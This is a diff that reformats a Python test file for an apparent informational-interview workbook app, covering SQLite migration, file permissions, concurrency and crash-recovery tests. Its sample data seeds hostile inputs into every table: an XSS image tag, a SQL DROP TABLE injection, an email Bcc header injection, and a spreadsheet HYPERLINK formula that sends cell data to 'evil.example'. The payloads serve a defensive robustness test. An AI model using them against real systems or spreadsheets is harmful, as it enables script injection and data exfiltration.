@@ -29,7 +29,14 @@ from infoint import debrief, exports, imports, pipeline, questions, targets
 from infoint import workspace as wsmod
 from infoint.meetings import load_meetings
 from infoint.objectives import KINDS, Objective, Plan, Profile
-from infoint.workspace import MIGRATIONS, SCHEMA_VERSION, Workspace, WorkspaceError, migrate_connection, user_tables
+from infoint.workspace import (
+    MIGRATIONS,
+    SCHEMA_VERSION,
+    Workspace,
+    WorkspaceError,
+    migrate_connection,
+    user_tables,
+)
 
 
 def mode(path: Path) -> int:
@@ -54,7 +61,7 @@ def child_env(journal: str) -> dict[str, str]:
 # =============================================================================== sample data
 # Every column of every table populated, with text an attacker or an odd export could produce.
 HOSTILE = (
-    "Zoë O'Brien-Łukasz <img src=x onerror=alert(1)> $5M and $10M & \"quotes\" "
+    'Zoë O\'Brien-Łukasz <img src=x onerror=alert(1)> $5M and $10M & "quotes" '
     "'); DROP TABLE contacts;-- \u202eevil\u202c 👋 日本語\r\nBcc: victim@example.org"
 )
 FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"click me")'
@@ -68,16 +75,36 @@ def sample_rows() -> dict[str, list[dict]]:
     """One or more rows per table of the current schema, every column set (ids explicit)."""
     return {
         "profile": [
-            {"id": 1, "name": HOSTILE, "email": "zoe@example.org", "timezone": "Europe/Paris",
-             "pitch": FORMULA + "\n" + LONG, "updated_at": T1, "location": "Lyon, France"}
+            {
+                "id": 1,
+                "name": HOSTILE,
+                "email": "zoe@example.org",
+                "timezone": "Europe/Paris",
+                "pitch": FORMULA + "\n" + LONG,
+                "updated_at": T1,
+                "location": "Lyon, France",
+            }
         ],
         "objective": [
-            {"id": 1, "kinds": json.dumps(["role", "industry"]), "field_of_interest": HOSTILE,
-             "roles": json.dumps(["UX researcher", HOSTILE], ensure_ascii=False),
-             "organizations": json.dumps(["Acme Café", FORMULA], ensure_ascii=False),
-             "goals": json.dumps(["Which skills matter day to day?", NUL], ensure_ascii=False),
-             "plan": json.dumps({"total": 8, "position": 5, "organization": 4, "both": 3, "junior": 2, "senior": 4}),
-             "updated_at": T1}
+            {
+                "id": 1,
+                "kinds": json.dumps(["role", "industry"]),
+                "field_of_interest": HOSTILE,
+                "roles": json.dumps(["UX researcher", HOSTILE], ensure_ascii=False),
+                "organizations": json.dumps(["Acme Café", FORMULA], ensure_ascii=False),
+                "goals": json.dumps(["Which skills matter day to day?", NUL], ensure_ascii=False),
+                "plan": json.dumps(
+                    {
+                        "total": 8,
+                        "position": 5,
+                        "organization": 4,
+                        "both": 3,
+                        "junior": 2,
+                        "senior": 4,
+                    }
+                ),
+                "updated_at": T1,
+            }
         ],
         "meta": [
             {"key": "created_at", "value": T0},
@@ -86,61 +113,196 @@ def sample_rows() -> dict[str, list[dict]]:
             {"key": "note " + HOSTILE, "value": HOSTILE},
         ],
         "events": [
-            {"id": 1, "at": "2024-02-01T10:00:00+00:00", "kind": "request_sent", "contact_id": 1,
-             "data": json.dumps({"subject": HOSTILE, "n": 1.5}, ensure_ascii=False)},
-            {"id": 2, "at": "2024-02-03T10:00:00+00:00", "kind": "reply", "contact_id": 1,
-             "data": json.dumps({"answer": "yes", "text": FORMULA}, ensure_ascii=False)},
-            {"id": 5, "at": "2024-02-05T10:00:00+00:00", "kind": "note", "contact_id": 2,
-             "data": json.dumps({"text": LONG[:500]}, ensure_ascii=False)},
+            {
+                "id": 1,
+                "at": "2024-02-01T10:00:00+00:00",
+                "kind": "request_sent",
+                "contact_id": 1,
+                "data": json.dumps({"subject": HOSTILE, "n": 1.5}, ensure_ascii=False),
+            },
+            {
+                "id": 2,
+                "at": "2024-02-03T10:00:00+00:00",
+                "kind": "reply",
+                "contact_id": 1,
+                "data": json.dumps({"answer": "yes", "text": FORMULA}, ensure_ascii=False),
+            },
+            {
+                "id": 5,
+                "at": "2024-02-05T10:00:00+00:00",
+                "kind": "note",
+                "contact_id": 2,
+                "data": json.dumps({"text": LONG[:500]}, ensure_ascii=False),
+            },
         ],
         "organizations": [
-            {"id": 1, "name": HOSTILE, "name_key": "zoe-obrien-key", "industry": "Design", "size": "51-200",
-             "location": "Paris", "website": "https://example.org/café", "motivation": 3, "postings": 2,
-             "advocacy": 1, "notes": FORMULA, "archived": 0, "created_at": T0, "updated_at": T1},
-            {"id": 4, "name": "Acme Café", "name_key": "acme cafe", "industry": "Food", "size": "1-10",
-             "location": "Québec", "website": "https://acme.example", "motivation": 1, "postings": 0,
-             "advocacy": 0, "notes": NUL, "archived": 1, "created_at": T0, "updated_at": T0},
+            {
+                "id": 1,
+                "name": HOSTILE,
+                "name_key": "zoe-obrien-key",
+                "industry": "Design",
+                "size": "51-200",
+                "location": "Paris",
+                "website": "https://example.org/café",
+                "motivation": 3,
+                "postings": 2,
+                "advocacy": 1,
+                "notes": FORMULA,
+                "archived": 0,
+                "created_at": T0,
+                "updated_at": T1,
+            },
+            {
+                "id": 4,
+                "name": "Acme Café",
+                "name_key": "acme cafe",
+                "industry": "Food",
+                "size": "1-10",
+                "location": "Québec",
+                "website": "https://acme.example",
+                "motivation": 1,
+                "postings": 0,
+                "advocacy": 0,
+                "notes": NUL,
+                "archived": 1,
+                "created_at": T0,
+                "updated_at": T0,
+            },
         ],
         "contacts": [
-            {"id": 1, "first_name": "Zoë", "last_name": HOSTILE, "email": "zoe@example.org",
-             "profile_url": "https://www.linkedin.com/in/zo%C3%AB", "organization": HOSTILE, "position": FORMULA,
-             "connected_on": "2021-03-12", "location": "Lyon", "phone": "+33 1 23 45 67 89", "connection": "first",
-             "via": "Ana", "warm_reason": "same school", "seniority": "senior", "years_in_industry": 12.5,
-             "focus": "role", "local": 1, "modes": "video,phone", "alt_titles": json.dumps(["Designer", HOSTILE], ensure_ascii=False),
-             "notes": LONG, "source": "form", "target": 1, "referred_by": 2, "archived": 0,
-             "created_at": T0, "updated_at": T1, "cadence_days": 45},
-            {"id": 2, "first_name": "李", "last_name": "Nakamura", "email": "li@example.jp",
-             "profile_url": "https://www.linkedin.com/in/li-n", "organization": "Acme Café", "position": "CTO",
-             "connected_on": "2019-12-31", "location": "Tokyo", "phone": "0", "connection": "second",
-             "via": HOSTILE, "warm_reason": FORMULA, "seniority": "junior", "years_in_industry": 3.0,
-             "focus": "organization", "local": 0, "modes": "phone", "alt_titles": "[]",
-             "notes": NUL, "source": "Contacts (1).xlsx", "target": 0, "referred_by": 1, "archived": 1,
-             "created_at": T0, "updated_at": T0, "cadence_days": 90},
+            {
+                "id": 1,
+                "first_name": "Zoë",
+                "last_name": HOSTILE,
+                "email": "zoe@example.org",
+                "profile_url": "https://www.linkedin.com/in/zo%C3%AB",
+                "organization": HOSTILE,
+                "position": FORMULA,
+                "connected_on": "2021-03-12",
+                "location": "Lyon",
+                "phone": "+33 1 23 45 67 89",
+                "connection": "first",
+                "via": "Ana",
+                "warm_reason": "same school",
+                "seniority": "senior",
+                "years_in_industry": 12.5,
+                "focus": "role",
+                "local": 1,
+                "modes": "video,phone",
+                "alt_titles": json.dumps(["Designer", HOSTILE], ensure_ascii=False),
+                "notes": LONG,
+                "source": "form",
+                "target": 1,
+                "referred_by": 2,
+                "archived": 0,
+                "created_at": T0,
+                "updated_at": T1,
+                "cadence_days": 45,
+            },
+            {
+                "id": 2,
+                "first_name": "李",
+                "last_name": "Nakamura",
+                "email": "li@example.jp",
+                "profile_url": "https://www.linkedin.com/in/li-n",
+                "organization": "Acme Café",
+                "position": "CTO",
+                "connected_on": "2019-12-31",
+                "location": "Tokyo",
+                "phone": "0",
+                "connection": "second",
+                "via": HOSTILE,
+                "warm_reason": FORMULA,
+                "seniority": "junior",
+                "years_in_industry": 3.0,
+                "focus": "organization",
+                "local": 0,
+                "modes": "phone",
+                "alt_titles": "[]",
+                "notes": NUL,
+                "source": "Contacts (1).xlsx",
+                "target": 0,
+                "referred_by": 1,
+                "archived": 1,
+                "created_at": T0,
+                "updated_at": T0,
+                "cadence_days": 90,
+            },
         ],
         "drafts": [
-            {"id": 1, "contact_id": 1, "kind": "request", "subject": HOSTILE, "body": "Dear Zoë,\n\n" + FORMULA,
-             "forwardable": "Forwardable: " + HOSTILE, "created_at": T0, "updated_at": T1},
+            {
+                "id": 1,
+                "contact_id": 1,
+                "kind": "request",
+                "subject": HOSTILE,
+                "body": "Dear Zoë,\n\n" + FORMULA,
+                "forwardable": "Forwardable: " + HOSTILE,
+                "created_at": T0,
+                "updated_at": T1,
+            },
         ],
         "meetings": [
-            {"id": 1, "contact_id": 1, "starts_at": "2024-03-01T09:30:00+01:00", "minutes": 25,
-             "mode": "in person", "place": HOSTILE, "their_workplace": 1, "recognise": "red scarf",
-             "checklist": json.dumps({"confirm": True, "route": False}), "research": json.dumps({"org": True}),
-             "notes": LONG[:3000], "offer": FORMULA,
-             "questions": json.dumps([{"id": "Q1", "text": HOSTILE, "theme": "role"},
-                                      {"id": "own-1", "text": "Was ist wichtig?", "theme": ""}], ensure_ascii=False),
-             "cancelled": 0, "created_at": T0, "updated_at": T1},
+            {
+                "id": 1,
+                "contact_id": 1,
+                "starts_at": "2024-03-01T09:30:00+01:00",
+                "minutes": 25,
+                "mode": "in person",
+                "place": HOSTILE,
+                "their_workplace": 1,
+                "recognise": "red scarf",
+                "checklist": json.dumps({"confirm": True, "route": False}),
+                "research": json.dumps({"org": True}),
+                "notes": LONG[:3000],
+                "offer": FORMULA,
+                "questions": json.dumps(
+                    [
+                        {"id": "Q1", "text": HOSTILE, "theme": "role"},
+                        {"id": "own-1", "text": "Was ist wichtig?", "theme": ""},
+                    ],
+                    ensure_ascii=False,
+                ),
+                "cancelled": 0,
+                "created_at": T0,
+                "updated_at": T1,
+            },
         ],
         "custom_questions": [
-            {"id": 1, "text": HOSTILE, "themes": json.dumps(["role", "culture"]), "created_at": T0, "updated_at": T0},
+            {
+                "id": 1,
+                "text": HOSTILE,
+                "themes": json.dumps(["role", "culture"]),
+                "created_at": T0,
+                "updated_at": T0,
+            },
         ],
         "debriefs": [
-            {"id": 1, "meeting_id": 1, "contact_id": 1, "answers": json.dumps({"0": HOSTILE, "1": FORMULA}, ensure_ascii=False),
-             "insights": HOSTILE, "surprises": NUL, "reflection": json.dumps({"energy": "high", "doubt": "é"}, ensure_ascii=False),
-             "role_fit": 4, "org_fit": 2, "next_changes": FORMULA, "created_at": T0, "updated_at": T1},
+            {
+                "id": 1,
+                "meeting_id": 1,
+                "contact_id": 1,
+                "answers": json.dumps({"0": HOSTILE, "1": FORMULA}, ensure_ascii=False),
+                "insights": HOSTILE,
+                "surprises": NUL,
+                "reflection": json.dumps({"energy": "high", "doubt": "é"}, ensure_ascii=False),
+                "role_fit": 4,
+                "org_fit": 2,
+                "next_changes": FORMULA,
+                "created_at": T0,
+                "updated_at": T1,
+            },
         ],
         "action_items": [
-            {"id": 1, "meeting_id": 1, "contact_id": 1, "text": HOSTILE, "due": "2024-03-10",
-             "done_at": "2024-03-09T10:00:00+00:00", "created_at": T0, "updated_at": T1},
+            {
+                "id": 1,
+                "meeting_id": 1,
+                "contact_id": 1,
+                "text": HOSTILE,
+                "due": "2024-03-10",
+                "done_at": "2024-03-09T10:00:00+00:00",
+                "created_at": T0,
+                "updated_at": T1,
+            },
         ],
     }
 
@@ -165,12 +327,17 @@ def insert_rows(conn: sqlite3.Connection, rows: dict[str, list[dict]]) -> dict[s
         kept = [{k: v for k, v in row.items() if k in have} for row in table_rows]
         for row in kept:
             names = ", ".join(wsmod.quote_name(c) for c in row)
-            conn.execute(f"INSERT INTO {wsmod.quote_name(table)} ({names}) VALUES ({', '.join('?' for _ in row)})", list(row.values()))
+            conn.execute(
+                f"INSERT INTO {wsmod.quote_name(table)} ({names}) VALUES ({', '.join('?' for _ in row)})",
+                list(row.values()),
+            )
         inserted[table] = kept
     return inserted
 
 
-def build_old_workspace(path: Path, version: int, rows: dict[str, list[dict]] | None = None) -> dict[str, list[dict]]:
+def build_old_workspace(
+    path: Path, version: int, rows: dict[str, list[dict]] | None = None
+) -> dict[str, list[dict]]:
     """A workspace file as a release at ``version`` left it (WAL, data in every table it had)."""
     conn = sqlite3.connect(path, isolation_level=None)
     try:
@@ -194,7 +361,9 @@ def assert_rows_unchanged(w: Workspace, inserted: dict[str, list[dict]], version
             assert row[key] in stored, f"{table} row {row[key]!r} lost"
             now = stored[row[key]]
             for column, value in row.items():
-                assert now[column] == value and type(now[column]) is type(value), f"{table}.{column} changed"
+                assert now[column] == value and type(now[column]) is type(value), (
+                    f"{table}.{column} changed"
+                )
             for (t, column), (added, default) in ADDED_LATER.items():
                 if t == table and version < added:
                     assert now[column] == default
@@ -212,48 +381,82 @@ def assert_loaders_read(w: Workspace, inserted: dict[str, list[dict]]) -> None:
         assert (profile.name, profile.email, profile.pitch) == (p["name"], p["email"], p["pitch"])
         o = rows["objective"][0]
         assert objective.field_of_interest == o["field_of_interest"]
-        assert set(objective.kinds) == set(json.loads(o["kinds"])) and set(objective.kinds) <= set(KINDS)
-        assert objective.roles == json.loads(o["roles"]) and objective.goals == json.loads(o["goals"])
+        assert set(objective.kinds) == set(json.loads(o["kinds"])) and set(objective.kinds) <= set(
+            KINDS
+        )
+        assert objective.roles == json.loads(o["roles"]) and objective.goals == json.loads(
+            o["goals"]
+        )
         assert objective.plan == Plan(**json.loads(o["plan"]))
     else:
         assert profile == Profile()
 
     events = pipeline.events_from_rows(w.events())
     assert sorted(e.id for e in events) == sorted(r["id"] for r in rows["events"])
-    assert {e.id: e.data for e in events} == {r["id"]: json.loads(r["data"]) for r in rows["events"]}
+    assert {e.id: e.data for e in events} == {
+        r["id"]: json.loads(r["data"]) for r in rows["events"]
+    }
 
     orgs = {o.id: o for o in targets.load_organizations(w)}
     assert set(orgs) == {r["id"] for r in rows["organizations"]}
     for r in rows["organizations"]:
-        assert (orgs[r["id"]].name, orgs[r["id"]].notes, orgs[r["id"]].archived) == (r["name"], r["notes"], bool(r["archived"]))
+        assert (orgs[r["id"]].name, orgs[r["id"]].notes, orgs[r["id"]].archived) == (
+            r["name"],
+            r["notes"],
+            bool(r["archived"]),
+        )
 
     contacts = {c.id: c for c in targets.load_contacts(w)}
     assert set(contacts) == {r["id"] for r in rows["contacts"]}
     for r in rows["contacts"]:
         c = contacts[r["id"]]
         assert (c.first_name, c.last_name, c.organization, c.position, c.notes, c.via) == (
-            r["first_name"], r["last_name"], r["organization"], r["position"], r["notes"], r["via"])
-        assert c.alt_titles == json.loads(r["alt_titles"]) and c.years_in_industry == r["years_in_industry"]
-        assert c.local is bool(r["local"]) and c.target is bool(r["target"]) and c.referred_by == r["referred_by"]
+            r["first_name"],
+            r["last_name"],
+            r["organization"],
+            r["position"],
+            r["notes"],
+            r["via"],
+        )
+        assert (
+            c.alt_titles == json.loads(r["alt_titles"])
+            and c.years_in_industry == r["years_in_industry"]
+        )
+        assert (
+            c.local is bool(r["local"])
+            and c.target is bool(r["target"])
+            and c.referred_by == r["referred_by"]
+        )
         assert c.cadence_days == r.get("cadence_days")
 
     drafts = w.query("SELECT * FROM drafts ORDER BY id")
-    assert [(d["subject"], d["body"]) for d in drafts] == [(r["subject"], r["body"]) for r in rows["drafts"]]
+    assert [(d["subject"], d["body"]) for d in drafts] == [
+        (r["subject"], r["body"]) for r in rows["drafts"]
+    ]
 
     meetings = load_meetings(w)
     assert [m.id for m in meetings] == [r["id"] for r in rows["meetings"]]
     for m, r in zip(meetings, rows["meetings"]):
-        assert (m.place, m.notes, m.offer, m.mode) == (r["place"], r["notes"], r["offer"], r["mode"])
-        assert m.questions == json.loads(r["questions"]) and m.checklist == json.loads(r["checklist"])
+        assert (m.place, m.notes, m.offer, m.mode) == (
+            r["place"],
+            r["notes"],
+            r["offer"],
+            r["mode"],
+        )
+        assert m.questions == json.loads(r["questions"]) and m.checklist == json.loads(
+            r["checklist"]
+        )
     custom = questions.load_custom_questions(w)
     assert [q.text for q in custom] == [r["text"] for r in rows["custom_questions"]]
 
     debriefs = debrief.load_debriefs(w)
     assert [(d.id, d.insights, d.answers, d.role_fit) for d in debriefs] == [
-        (r["id"], r["insights"], json.loads(r["answers"]), r["role_fit"]) for r in rows["debriefs"]]
+        (r["id"], r["insights"], json.loads(r["answers"]), r["role_fit"]) for r in rows["debriefs"]
+    ]
     items = debrief.load_action_items(w)
     assert [(i.id, i.text, i.due, i.done_at) for i in items] == [
-        (r["id"], r["text"], r["due"], r["done_at"]) for r in rows["action_items"]]
+        (r["id"], r["text"], r["due"], r["done_at"]) for r in rows["action_items"]
+    ]
 
 
 def test_sample_data_covers_every_column_of_the_current_schema(tmp_path):
@@ -327,7 +530,9 @@ def old_backup(tmp_path: Path, version: int) -> tuple[bytes, dict[str, list[dict
     conn = sqlite3.connect(path, isolation_level=None)
     conn.row_factory = sqlite3.Row
     try:
-        dump = Workspace(path=path, _conn=conn).dump()  # the dump code, on a connection at that version
+        dump = Workspace(
+            path=path, _conn=conn
+        ).dump()  # the dump code, on a connection at that version
     finally:
         conn.close()
     assert dump["schema_version"] == version
@@ -335,7 +540,9 @@ def old_backup(tmp_path: Path, version: int) -> tuple[bytes, dict[str, list[dict
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as zf:
         zf.writestr(exports.BACKUP_MEMBER, json.dumps(content, ensure_ascii=False, indent=1))
-        zf.writestr("README.txt", "This file is a backup of your informational interview workbook.\n")
+        zf.writestr(
+            "README.txt", "This file is a backup of your informational interview workbook.\n"
+        )
     return buffer.getvalue(), inserted
 
 
@@ -378,7 +585,9 @@ def umask():
 
 @pytest.mark.parametrize("mask", [0o022, 0o002, 0o000], ids=lambda m: f"umask-{m:03o}")
 @pytest.mark.parametrize("journal", ["wal", "delete"])
-def test_new_workspace_file_is_0600_in_a_0700_folder_and_siblings_are_private(tmp_path, umask, mask, journal):
+def test_new_workspace_file_is_0600_in_a_0700_folder_and_siblings_are_private(
+    tmp_path, umask, mask, journal
+):
     umask(mask)
     path = tmp_path / "fresh" / "workspace.sqlite3"
     with Workspace.open(path, journal=journal) as w:
@@ -396,13 +605,17 @@ def test_new_workspace_file_is_0600_in_a_0700_folder_and_siblings_are_private(tm
 
 
 @pytest.mark.parametrize("mask", [0o022, 0o000], ids=lambda m: f"umask-{m:03o}")
-def test_backups_folder_is_0700_and_safety_copies_are_0600_and_restores_write_no_scratch(tmp_path, umask, monkeypatch, mask):
+def test_backups_folder_is_0700_and_safety_copies_are_0600_and_restores_write_no_scratch(
+    tmp_path, umask, monkeypatch, mask
+):
     umask(mask)
     seen = {}
     real_replace = Workspace._replace_from
 
     def spy(self, source):
-        seen["files"] = sorted(p.name for p in self.path.parent.iterdir())  # while the restore is under way
+        seen["files"] = sorted(
+            p.name for p in self.path.parent.iterdir()
+        )  # while the restore is under way
         return real_replace(self, source)
 
     monkeypatch.setattr(Workspace, "_replace_from", spy)
@@ -415,7 +628,13 @@ def test_backups_folder_is_0700_and_safety_copies_are_0600_and_restores_write_no
         assert mode(safety) == 0o600
     assert mode(copy.parent) == 0o700
     # the scratch copy of the backup lives in memory: nothing but the workspace and backups on disk
-    assert set(seen["files"]) <= {"workspace.sqlite3", "workspace.sqlite3-wal", "workspace.sqlite3-shm", "workspace.sqlite3-journal", "backups"}
+    assert set(seen["files"]) <= {
+        "workspace.sqlite3",
+        "workspace.sqlite3-wal",
+        "workspace.sqlite3-shm",
+        "workspace.sqlite3-journal",
+        "backups",
+    }
 
 
 def test_loose_workspace_file_is_tightened_back_to_0600_on_open(tmp_path):
@@ -456,7 +675,12 @@ def on_disk_journal_mode(path: Path) -> str:
 
 @pytest.mark.parametrize(
     "how, value",
-    [("argument", "delete"), ("argument", "rollback"), ("environment", "delete"), ("environment", "Rollback")],
+    [
+        ("argument", "delete"),
+        ("argument", "rollback"),
+        ("environment", "delete"),
+        ("environment", "Rollback"),
+    ],
 )
 def test_rollback_journal_on_request_by_argument_or_environment(tmp_path, monkeypatch, how, value):
     path = tmp_path / "ws" / "workspace.sqlite3"
@@ -567,8 +791,20 @@ def run_writers(path: Path, journal: str, seconds: float, count: int = 4) -> lis
     start = time.time() + 3.0  # every worker has opened the workspace by then
     procs = [
         subprocess.Popen(
-            [sys.executable, "-c", WORKER, str(path), f"w{n}", str(start), str(seconds), str(1000 + n)],
-            env=child_env(journal), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+            [
+                sys.executable,
+                "-c",
+                WORKER,
+                str(path),
+                f"w{n}",
+                str(start),
+                str(seconds),
+                str(1000 + n),
+            ],
+            env=child_env(journal),
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
         )
         for n in range(count)
     ]
@@ -590,9 +826,13 @@ def test_four_processes_writing_at_once_lose_no_update(tmp_path, journal):
     assert {r["journal"] for r in results} == {journal}
     total = lambda key: sum(r[key] for r in results)  # noqa: E731
     if journal == "wal":  # WAL: every writer gets through every kind of write
-        assert all(r["increments"] and r["events"] and r["saves"] and r["contact_writes"] for r in results), results
+        assert all(
+            r["increments"] and r["events"] and r["saves"] and r["contact_writes"] for r in results
+        ), results
     else:  # the rollback journal's locks are not fair: slower for some writers, but nobody is shut out
-        assert all(r["increments"] + r["events"] + r["saves"] + r["contact_writes"] for r in results), results
+        assert all(
+            r["increments"] + r["events"] + r["saves"] + r["contact_writes"] for r in results
+        ), results
     assert total("bad_ids") == 0, "Workspace.write returned ids of rows it did not insert"
     with Workspace.open(path, journal=None if journal == "wal" else journal) as w:
         assert w.conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
@@ -602,9 +842,14 @@ def test_four_processes_writing_at_once_lose_no_update(tmp_path, journal):
         by_source = Counter(r["source"] for r in w.query("SELECT source FROM contacts"))
         assert by_source == Counter({f"w{n}": r["contacts"] for n, r in enumerate(results)})
         profile, objective = w.get_row("profile"), w.get_row("objective")
-        assert profile["name"] == objective["field_of_interest"] == json.loads(objective["goals"])[0]
+        assert (
+            profile["name"] == objective["field_of_interest"] == json.loads(objective["goals"])[0]
+        )
         assert profile["pitch"] == "Pitch " + profile["name"]
-    print(f"\n{journal}, {seconds:.0f} s: " + ", ".join(f"{k}={total(k)}" for k in ("increments", "events", "saves", "contacts")))
+    print(
+        f"\n{journal}, {seconds:.0f} s: "
+        + ", ".join(f"{k}={total(k)}" for k in ("increments", "events", "saves", "contacts"))
+    )
 
 
 # ============================================= 2. killed at random points, imports and saves
@@ -693,7 +938,14 @@ AIMS = [
     (3, "phase restore:scratch"),  # the restore's scratch copy
     (3, "phase restore:replace"),  # the restore's one transaction
 ]
-FIXED_TABLES = ("organizations", "drafts", "meetings", "custom_questions", "debriefs", "action_items")
+FIXED_TABLES = (
+    "organizations",
+    "drafts",
+    "meetings",
+    "custom_questions",
+    "debriefs",
+    "action_items",
+)
 JSON_COLUMNS = {
     "objective": ("kinds", "roles", "organizations", "goals", "plan"),
     "events": ("data",),
@@ -705,8 +957,12 @@ JSON_COLUMNS = {
 
 
 def page_rows(token: str) -> dict[str, dict]:
-    profile = Profile(name="Tester " + token, email="t@example.org", timezone="UTC", pitch="Pitch <b>" + token)
-    objective = Objective(kinds=["role"], field_of_interest="Field " + token, goals=["goal " + token])
+    profile = Profile(
+        name="Tester " + token, email="t@example.org", timezone="UTC", pitch="Pitch <b>" + token
+    )
+    objective = Objective(
+        kinds=["role"], field_of_interest="Field " + token, goals=["goal " + token]
+    )
     return {"profile": profile.to_row(), "objective": objective.to_row()}
 
 
@@ -715,7 +971,9 @@ def fingerprint(w: Workspace) -> str:
     parts = {t: w.query(f"SELECT * FROM {t} ORDER BY id") for t in FIXED_TABLES}
     parts["contacts"] = w.query("SELECT * FROM contacts WHERE source != 'linkedin' ORDER BY id")
     parts["meta"] = w.query("SELECT * FROM meta WHERE key != 'counter' ORDER BY key")
-    return hashlib.sha256(json.dumps(parts, sort_keys=True, ensure_ascii=False).encode()).hexdigest()
+    return hashlib.sha256(
+        json.dumps(parts, sort_keys=True, ensure_ascii=False).encode()
+    ).hexdigest()
 
 
 def seed_workspace(path: Path, origin: str, ticks: int, journal: str | None) -> None:
@@ -730,11 +988,16 @@ def seed_workspace(path: Path, origin: str, ticks: int, journal: str | None) -> 
             tx.execute("DELETE FROM meta")
             insert_rows(tx, {k: v for k, v in rows.items() if k not in ("profile", "objective")})
             for n in range(1, ticks + 1):
-                tx.execute("INSERT INTO events (at, kind, data) VALUES (?, 'tick', ?)", (T0, json.dumps({"seq": n})))
+                tx.execute(
+                    "INSERT INTO events (at, kind, data) VALUES (?, 'tick', ?)",
+                    (T0, json.dumps({"seq": n})),
+                )
         w.put_rows(page_rows(origin))
 
 
-def check_invariants(path: Path, journal: str | None, fingerprints: dict[str, str], checked: set[Path]) -> str:
+def check_invariants(
+    path: Path, journal: str | None, fingerprints: dict[str, str], checked: set[Path]
+) -> str:
     """Everything a kill must never break; returns which state the fixed tables are in."""
     try:
         w = Workspace.open(path, journal=journal)  # runs the integrity check
@@ -746,27 +1009,41 @@ def check_invariants(path: Path, journal: str | None, fingerprints: dict[str, st
         for table in w.tables():
             info = w.conn.execute(f"PRAGMA table_info({wsmod.quote_name(table)})").fetchall()
             for column in (r[1] for r in info if r[3]):
-                assert not w.query(f"SELECT 1 FROM {table} WHERE {column} IS NULL LIMIT 1"), f"{table}.{column} NULL"
+                assert not w.query(f"SELECT 1 FROM {table} WHERE {column} IS NULL LIMIT 1"), (
+                    f"{table}.{column} NULL"
+                )
             for column in JSON_COLUMNS.get(table, ()):
                 for row in w.query(f"SELECT {column} AS v FROM {table}"):
                     json.loads(row["v"])
         # Imports are all or nothing: every imported batch is complete.
         linkedin = w.query("SELECT profile_url FROM contacts WHERE source = 'linkedin'")
-        assert len(linkedin) % IMPORT_SIZE == 0, f"{len(linkedin)} imported contacts: a partial import"
+        assert len(linkedin) % IMPORT_SIZE == 0, (
+            f"{len(linkedin)} imported contacts: a partial import"
+        )
         batches = Counter(r["profile_url"].rsplit("/", 1)[1].rsplit("-", 1)[0] for r in linkedin)
         assert set(batches.values()) <= {IMPORT_SIZE}, batches
         # The counter and its events were written together; no event lost or doubled.
-        ticks = [json.loads(r["data"])["seq"] for r in w.query("SELECT data FROM events WHERE kind = 'tick' ORDER BY id")]
+        ticks = [
+            json.loads(r["data"])["seq"]
+            for r in w.query("SELECT data FROM events WHERE kind = 'tick' ORDER BY id")
+        ]
         assert int(w.get_meta("counter")) == len(ticks)
         assert ticks == list(range(1, len(ticks) + 1))
         # Step 1's save: profile and objective together or not at all.
-        profile, objective = Profile.from_row(w.get_row("profile")), Objective.from_row(w.get_row("objective"))
+        profile, objective = (
+            Profile.from_row(w.get_row("profile")),
+            Objective.from_row(w.get_row("objective")),
+        )
         token = profile.name.removeprefix("Tester ")
-        assert objective.field_of_interest == "Field " + token and objective.goals == ["goal " + token]
+        assert objective.field_of_interest == "Field " + token and objective.goals == [
+            "goal " + token
+        ]
         assert profile.pitch == "Pitch <b>" + token
         # A restore was applied entirely or not at all.
         state = {v: k for k, v in fingerprints.items()}.get(fingerprint(w))
-        assert state is not None, "the fixed tables are neither the initial state nor the backup's: a partial restore"
+        assert state is not None, (
+            "the fixed tables are neither the initial state nor the backup's: a partial restore"
+        )
         assert w.get_meta("origin") == state
         # Every safety copy is a complete, readable backup, private.
         folder = path.parent / "backups"
@@ -777,14 +1054,22 @@ def check_invariants(path: Path, journal: str | None, fingerprints: dict[str, st
         return state
 
 
-def prepare_crash_test(tmp_path: Path, opened_with: str | None) -> tuple[Path, Path, dict[str, str]]:
+def prepare_crash_test(
+    tmp_path: Path, opened_with: str | None
+) -> tuple[Path, Path, dict[str, str]]:
     """The workspace (initial state), a backup file (other fixed data, one complete import,
     five counted events), and the fingerprints of both."""
     source = tmp_path / "source" / "workspace.sqlite3"
     seed_workspace(source, "backup", 5, None)
     with Workspace.open(source) as w:
         header = ",".join(imports.LINKEDIN_HEADER)
-        text = "\n".join(["Notes:", "", header] + [f"Ana{i},Backup,https://www.linkedin.com/in/backup-{i},,Acme,Designer," for i in range(IMPORT_SIZE)])
+        text = "\n".join(
+            ["Notes:", "", header]
+            + [
+                f"Ana{i},Backup,https://www.linkedin.com/in/backup-{i},,Acme,Designer,"
+                for i in range(IMPORT_SIZE)
+            ]
+        )
         plan = imports.read_contacts((text + "\n").encode(), "Connections.csv")
         targets.apply_merge(w, imports.plan_merge([], plan), [])
         backup_file = tmp_path / "infoint-backup.zip"
@@ -797,7 +1082,11 @@ def prepare_crash_test(tmp_path: Path, opened_with: str | None) -> tuple[Path, P
     return path, backup_file, fingerprints
 
 
-@pytest.mark.parametrize("journal, kills", [("wal", 50), ("delete", 10)], ids=["wal-50-kills", "rollback-journal-10-kills"])
+@pytest.mark.parametrize(
+    "journal, kills",
+    [("wal", 50), ("delete", 10)],
+    ids=["wal-50-kills", "rollback-journal-10-kills"],
+)
 def test_killed_at_random_points_during_imports_and_saves(tmp_path, journal, kills):
     opened_with = None if journal == "wal" else journal
     path, backup_file, fingerprints = prepare_crash_test(tmp_path, opened_with)
@@ -808,8 +1097,20 @@ def test_killed_at_random_points_during_imports_and_saves(tmp_path, journal, kil
     def spawn(n: int) -> tuple[subprocess.Popen, str]:
         first, anchor = AIMS[n % len(AIMS)]
         proc = subprocess.Popen(
-            [sys.executable, "-c", CRASHER, str(path), str(backup_file), str(first), str(IMPORT_SIZE)],
-            env=child_env(journal), stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+            [
+                sys.executable,
+                "-c",
+                CRASHER,
+                str(path),
+                str(backup_file),
+                str(first),
+                str(IMPORT_SIZE),
+            ],
+            env=child_env(journal),
+            stdin=subprocess.PIPE,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
         )
         return proc, anchor
 
